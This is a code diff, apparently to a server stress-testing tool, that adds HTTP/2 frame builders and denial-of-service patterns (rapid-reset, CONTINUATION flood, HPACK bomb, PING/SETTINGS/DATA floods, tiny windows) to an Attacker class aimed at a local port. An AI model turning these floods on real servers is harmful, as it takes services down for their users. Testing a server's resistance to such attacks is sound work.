@@ -21,6 +21,7 @@ import select
 import socket
 import sys
 import time
+from collections.abc import Callable
 from dataclasses import dataclass
 
 SOURCE = "127.0.0.2"
@@ -38,12 +39,93 @@ class Manner:
 
     first: bytes = b""  # is sent on a new connection
     each: bytes = b""  # is sent at each turn
+    later: Callable[[int], bytes] | None = None  # the same; the argument counts the turns from 0
     reads: int | None = None  # bytes read at each turn; None: all that has arrived
     small_window: bool = False
     renews: bool = False  # each turn replaces the connection
 
 
+# ---- frames of HTTP/2 (RFC 9113 section 4), without Huffman coding or shared tables ----
+
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+END_STREAM, END_HEADERS = 1, 4
+INITIAL_WINDOW_SIZE = 4
+STREAMS = 100  # opened at each turn
+FRAMES = 1000  # without a request, at each turn
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    head = len(payload).to_bytes(3, "big") + bytes([kind, flags])
+    return head + stream.to_bytes(4, "big") + payload
+
+
+def field(name: bytes, value: bytes, form: int = 0) -> bytes:
+    """A literal field of at most 126 bytes. Form 0x40 adds it to the server's table."""
+    return bytes([form, len(name)]) + name + bytes([len(value)]) + value
+
+
+def request(path: str, method: bytes = b"GET") -> bytes:
+    """The header block of a request."""
+    pseudo = {b":method": method, b":scheme": b"http", b":authority": b"a", b":path": path.encode()}
+    return b"".join(field(name, value) for name, value in pseudo.items())
+
+
+def settings(window: int | None = None) -> bytes:
+    pairs = b""
+    if window is not None:
+        pairs = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + window.to_bytes(4, "big")
+    return frame(SETTINGS, 0, 0, pairs)
+
+
+def opened(turn: int, block: bytes, flags: int, follow: Callable[[int], bytes]) -> bytes:
+    """The streams of one turn, each with a header block and what `follow` puts behind it."""
+    start = 1 + 2 * STREAMS * turn
+    streams = range(start, start + 2 * STREAMS, 2)
+    return b"".join(frame(HEADERS, flags, stream, block) + follow(stream) for stream in streams)
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+BEGUN = PREFACE + settings()
+WHOLE, OPEN = END_HEADERS | END_STREAM, END_HEADERS
+CANCEL = (8).to_bytes(4, "big")
+POST = request("/", b"POST")
+UPLOAD = frame(HEADERS, OPEN, 1, POST)
+BOMB = field(b"x", b"v" * 100, 0x40)  # each further byte 0xbe repeats it
+
+FRAMED = {
+    "rapid-reset": Manner(
+        first=BEGUN,
+        later=lambda turn: opened(
+            turn, request(LARGE), WHOLE, lambda stream: frame(RST_STREAM, 0, stream, CANCEL)
+        ),
+    ),
+    "made-you-reset": Manner(
+        first=BEGUN,
+        later=lambda turn: opened(
+            turn, POST, OPEN, lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4))
+        ),
+    ),
+    "continuation": Manner(
+        first=BEGUN,
+        each=frame(HEADERS, 0, 1, request("/")) + frame(CONTINUATION, 0, 1, bytes(100)) * 100,
+    ),
+    "hpack-bomb": Manner(
+        first=BEGUN + frame(HEADERS, WHOLE, 1, request("/") + BOMB),
+        later=lambda turn: frame(HEADERS, WHOLE, 3 + 2 * turn, request("/") + b"\xbe" * 16_000),
+    ),
+    "ping": Manner(first=BEGUN, each=frame(PING, 0, 0, bytes(8)) * FRAMES),
+    "settings": Manner(first=BEGUN, each=settings() * FRAMES),
+    "empty-data": Manner(first=BEGUN + UPLOAD, each=frame(DATA, 0, 1) * FRAMES),
+    "tiny-windows": Manner(
+        first=PREFACE
+        + settings(0)
+        + b"".join(frame(HEADERS, WHOLE, s, request(LARGE)) for s in range(1, 2 * STREAMS, 2)),
+        each=frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big")),
+    ),
+}
+
 MANNERS = {
+    **FRAMED,
     "silent": Manner(renews=True),
     "idle": Manner(first=f"GET {SMALL} HTTP/1.1\r\nHost: a\r\n\r\n".encode(), renews=True),
     "pipelined": Manner(each=f"GET {SMALL} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * PIPELINED),
@@ -67,11 +149,13 @@ class Attacker:
     def __init__(self, manner: Manner, port: int) -> None:
         self.manner = manner
         self.port = port
+        self.turns = 0  # of this connection
         self.socket: socket.socket | None = None
 
     def connect(self) -> None:
         made = socket.socket()
         self.socket = made
+        self.turns = 0
         made.setblocking(False)
         made.setsockopt(socket.IPPROTO_IP, socket.IP_BIND_ADDRESS_NO_PORT, 1)
         if self.manner.small_window:
@@ -103,8 +187,9 @@ class Attacker:
         if any(events & select.POLLERR for _, events in poll.poll(0)):
             return False  # the server has reset it
         try:
-            if self.manner.each:
-                connection.send(self.manner.each)
+            if sent := self.manner.later(self.turns) if self.manner.later else self.manner.each:
+                connection.send(sent)
+            self.turns += 1
             if self.manner.reads != 0:
                 return connection.recv(self.manner.reads or 65536) != b""
         except BlockingIOError:
